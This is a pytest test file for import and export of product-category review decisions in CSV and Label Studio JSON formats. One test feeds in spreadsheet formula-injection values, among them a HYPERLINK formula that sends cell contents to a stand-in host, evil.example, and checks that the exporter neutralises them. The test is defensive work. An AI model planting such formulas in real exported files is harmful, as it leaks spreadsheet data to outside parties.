"""Exports (CSV, Label Studio JSON) and imports read back the same decisions."""

from __future__ import annotations

import csv
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import polars as pl
import pytest

from verification import QueueStoreError, exchange
from verification.store import QueueStore


def _decide_some(store: QueueStore, tax) -> dict[str, tuple[str, str | None]]:
    """accept, choose, not_product, needs_data, skip on five items; returns sku -> (kind, category_id)."""
    out: dict[str, tuple[str, str | None]] = {}
    items = store.claim("low_confidence", "alice", limit=5)
    a, c, n, d, s = items
    store.decide(a.id, "alice", "accept", duration_ms=3000)
    out[a.sku_id] = ("accept", a.suggested_category_id)
    node = tax.find_path(c.current_category_path)
    store.decide(c.id, "alice", "choose", category_id=node.id, category_path=node.path, note="title says so")
    out[c.sku_id] = ("choose", node.id)
    store.decide(n.id, "alice", "not_product")
    out[n.sku_id] = ("not_product", None)
    store.decide(d.id, "alice", "needs_data")
    out[d.sku_id] = ("needs_data", None)
    store.decide(s.id, "alice", "skip")
    return out


def _label_map(store: QueueStore) -> dict[str, tuple[str, str]]:
    return {r["sku_id"]: (r["category_id"], r["category_path"]) for r in store.labels().iter_rows(named=True)}


@pytest.mark.parametrize("fmt", ["csv", "labelstudio"])
def test_export_import_round_trip(make_store, make_frame, amazon, tmp_path: Path, fmt: str) -> None:
    _, tax = amazon
    source = make_store()
    frame = make_frame(10, queues=("low_confidence",))
    source.enqueue(frame, run_id="r1")
    decided = _decide_some(source, tax)
    path = tmp_path / f"decisions.{'csv' if fmt == 'csv' else 'json'}"
    assert source.export_decisions(path, fmt=fmt) == 4  # skips are not decisions to export

    target = QueueStore(f"sqlite:///{tmp_path / 'other.db'}", bcrypt_rounds=4)
    target.upgrade()
    target.enqueue(frame, run_id="r1")  # the same items are open there
    assert target.import_decisions(path, fmt=fmt, reviewer="importer") == 4
    assert _label_map(target) == _label_map(source)
    log = target.decisions_frame()
    assert {(r["sku_id"], r["kind"]) for r in log.iter_rows(named=True)} == {
        (k, v[0]) for k, v in decided.items()
    }
    assert set(log["source"]) == {"import"} and set(log["reviewer"]) == {"importer"}
    assert all("original reviewer alice" in n for n in log["note"])
    assert target.queue_counts()["low_confidence"] == {"open": 6, "claimed": 0, "decided": 4}
    # importing the same file again changes nothing
    assert target.import_decisions(path, fmt=fmt, reviewer="importer") == 0

    # into an empty store: the labels arrive without any queue item
    empty = QueueStore(f"sqlite:///{tmp_path / 'empty.db'}", bcrypt_rounds=4)
    empty.upgrade()
    assert empty.import_decisions(path, fmt=fmt, reviewer="importer") == 4
    assert _label_map(empty) == _label_map(source)
    again = empty.enqueue(frame, run_id="r2")
    assert again.total("skipped_locked") == 4
    target.close()
    empty.close()


def test_csv_export_columns(store: QueueStore, make_frame, amazon, tmp_path: Path) -> None:
    _, tax = amazon
    store.enqueue(make_frame(10, queues=("low_confidence",)), run_id="r1")
    decided = _decide_some(store, tax)
    path = tmp_path / "out.csv"
    store.export_decisions(path, fmt="csv")
    rows = list(csv.DictReader(path.read_text().splitlines()))
    assert {
        "sku_id",
        "title",
        "category_id",
        "category_path",
        "kind",
        "reviewer",
        "decided_at",
        "previous_category_path",
    } <= set(rows[0])
    by_sku = {r["sku_id"]: r for r in rows}
    for sku, (kind, cat) in decided.items():
        assert by_sku[sku]["kind"] == kind
        assert (by_sku[sku]["category_id"] or None) == cat
        assert by_sku[sku]["reviewer"] == "alice"
        assert by_sku[sku]["title"]
        assert by_sku[sku]["previous_category_path"]
        assert by_sku[sku]["decided_at"].endswith("Z")


def test_labelstudio_export_shape(store: QueueStore, make_frame, amazon, tmp_path: Path) -> None:
    _, tax = amazon
    store.enqueue(make_frame(10, queues=("low_confidence",)), run_id="r1")
    decided = _decide_some(store, tax)
    path = tmp_path / "out.json"
    store.export_decisions(path, fmt="labelstudio")
    tasks = json.loads(path.read_text())
    assert len(tasks) == 4
    chosen_sku = next(s for s, (k, _) in decided.items() if k == "choose")
    task = next(t for t in tasks if t["data"]["sku_id"] == chosen_sku)
    assert task["data"]["title"]
    (ann,) = task["annotations"]
    regions = {r["type"]: r for r in ann["result"]}
    assert regions["choices"]["value"] == {"choices": ["choose"]}
    path_parts = regions["taxonomy"]["value"]["taxonomy"][0]
    assert " > ".join(path_parts) == tax.get(decided[chosen_sku][1]).path
    assert regions["textarea"]["value"]["text"] == [decided[chosen_sku][1]]
    assert task["predictions"][0]["model_version"] == "test-model-1"


def test_labelstudio_import_of_taxonomy_only_annotations(store: QueueStore, amazon, tmp_path: Path) -> None:
    """An export made in Label Studio itself: taxonomy selection only, ids resolved through the taxonomy."""
    _, tax = amazon
    node = next(n for n in tax.leaves() if n.depth >= 3)
    tasks = [
        {
            "id": 7,
            "data": {"sku_id": "ext-1", "title": "Wooden puzzle"},
            "annotations": [
                {
                    "id": 70,
                    "completed_by": 3,
                    "result": [
                        {
                            "from_name": "category",
                            "to_name": "text",
                            "type": "taxonomy",
                            "value": {"taxonomy": [node.path.split(" > ")]},
                        }
                    ],
                    "was_cancelled": False,
                    "lead_time": 2.5,
                }
            ],
        },
        {"id": 8, "data": {"sku_id": "ext-2"}, "annotations": []},
    ]
    path = tmp_path / "ls.json"
    path.write_text(json.dumps(tasks))
    with pytest.raises(QueueStoreError, match="no category id"):
        store.import_decisions(path, fmt="labelstudio", reviewer="admin")
    assert store.import_decisions(path, fmt="labelstudio", reviewer="admin", taxonomy=tax) == 1
    assert _label_map(store) == {"ext-1": (node.id, node.path)}
    assert store.decisions_frame()["duration_ms"].to_list() == [2500]


def test_bad_import_files_name_the_line_and_fix(store: QueueStore, tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("sku_id,kind,category_id,category_path\nA1,accept,1,X\nA2,approve,2,Y\n")
    with pytest.raises(QueueStoreError, match=r"line 3: field 'kind' has unknown value 'approve'"):
        store.import_decisions(bad, fmt="csv", reviewer="admin")
    nokind = tmp_path / "nokind.csv"
    nokind.write_text("sku_id,category_path\nA1,X\n")
    with pytest.raises(QueueStoreError, match="missing column"):
        store.import_decisions(nokind, fmt="csv", reviewer="admin")
    broken = tmp_path / "broken.json"
    broken.write_text('[{"data": {"sku_id": "x"},')
    with pytest.raises(QueueStoreError, match="not valid JSON"):
        store.import_decisions(broken, fmt="labelstudio", reviewer="admin")
    assert store.labels().is_empty()


FORMULAS = ("=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR")


@pytest.mark.parametrize("fmt", ["csv", "labelstudio"])
def test_formula_cells_are_neutralised_on_export_and_restored_on_import(
    make_store, make_frame, tmp_path: Path, fmt: str
) -> None:
    source = make_store()
    frame = make_frame(len(FORMULAS), queues=("audit",))
    frame = frame.with_columns(
        sku_id=pl.Series([f"{f}-{i}" for i, f in enumerate(FORMULAS)]), title=pl.Series(list(FORMULAS))
    )
    source.enqueue(frame, run_id="r1")
    for item in source.claim("audit", "=rev", limit=len(FORMULAS)):
        source.decide(item.id, "=rev", "accept", note='=HYPERLINK("http://evil.example/?d="&A1,"x")')
    path = tmp_path / f"out.{fmt}"
    assert source.export_decisions(path, fmt=fmt) == len(FORMULAS)
    if fmt == "csv":
        cells = [cell for row in csv.reader(path.read_text(encoding="utf-8").splitlines()) for cell in row]
    else:
        tasks = json.loads(path.read_text(encoding="utf-8"))
        cells = [
            v for t in tasks for part in (t["data"], t["meta"]) for v in part.values() if isinstance(v, str)
        ]
    assert cells and not [c for c in cells if c.startswith(exchange.FORMULA_PREFIXES)]
    assert sum(c.startswith("'=HYPERLINK") for c in cells) == len(FORMULAS)

    records = exchange.read(path, fmt=fmt)
    stored = sorted(f"{f}-{i}".strip() for i, f in enumerate(FORMULAS))  # the CSV reader strips SKUs
    assert sorted(r["sku_id"].strip() for r in records) == stored
    assert {r["reviewer"] for r in records} == {"=rev"}
    assert {r["note"] for r in records} == {'=HYPERLINK("http://evil.example/?d="&A1,"x")'}


def test_labelstudio_config_holds_every_node_of_the_taxonomy(amazon) -> None:
    _, tax = amazon
    root = ET.fromstring(exchange.labelstudio_config(tax))
    assert [el.get("name") for el in root if el.get("name")] == [
        "text",
        "decision",
        "category",
        "category_id",
    ]
    assert {el.get("toName") for el in root if el.get("toName")} == {"text"}
    taxonomy_tag = root.find("Taxonomy")
    assert taxonomy_tag is not None

    paths: set[str] = set()

    def walk(el: ET.Element, prefix: list[str]) -> None:
        for child in el.findall("Choice"):
            path = [*prefix, child.get("value", "")]
            paths.add(" > ".join(path))
            walk(child, path)

    walk(taxonomy_tag, [])
    assert paths == {n.path for n in tax}


def test_labelstudio_config_command_needs_a_taxonomy(tmp_path: Path, amazon) -> None:
    from typer.testing import CliRunner

    from shelfwise.cli._review import review_app

    _, tax = amazon
    runner = CliRunner()
    out = tmp_path / "config.xml"
    res = runner.invoke(review_app, ["export", "--format", "labelstudio-config", "-o", str(out)])
    assert res.exit_code != 0 and "--taxonomy" in res.output
    res = runner.invoke(
        review_app, ["export", "--format", "labelstudio-config", "--taxonomy", tax.source, "-o", str(out)]
    )
    assert res.exit_code == 0 and f"for {len(list(tax))} categories" in res.output
    assert ET.fromstring(out.read_text()).tag == "View"
    res = runner.invoke(review_app, ["import", str(out), "--format", "labelstudio-config", "--reviewer", "x"])
    assert res.exit_code != 0 and "not decisions" in " ".join(res.output.replace("│", " ").split())
